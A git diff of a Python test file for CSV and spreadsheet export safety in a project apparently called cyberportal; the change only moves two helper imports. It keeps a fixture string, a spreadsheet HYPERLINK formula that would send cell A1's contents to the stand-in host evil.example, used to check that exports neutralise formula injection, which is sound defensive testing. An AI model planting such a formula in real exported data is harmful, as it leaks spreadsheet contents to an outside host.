@@ -7,9 +7,9 @@ import io
 import pytest
 
 from cyberportal.core.spreadsheet import SafeDictWriter, SafeWriter, safe_cell
-from cyberportal.core.testing import make_state
 from cyberportal.directory.tests.helpers import client_for, make_authority, make_contact
 from cyberportal.laws.tests.helpers import make_budapest, make_law, make_mapping, make_provision
+from cyberportal.testing import make_state
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
@@ -86,7 +86,7 @@ def test_wagtails_own_csv_exports_are_neutralised_too(client):
     """The site history report's CSV is Wagtail's view, not ours: the middleware covers it."""
     from wagtail.log_actions import log
 
-    from cyberportal.core.testing import make_user
+    from cyberportal.testing import make_user
 
     contact = make_contact(make_authority(make_state("CO")), FORMULA)
     log(contact, "wagtail.edit")
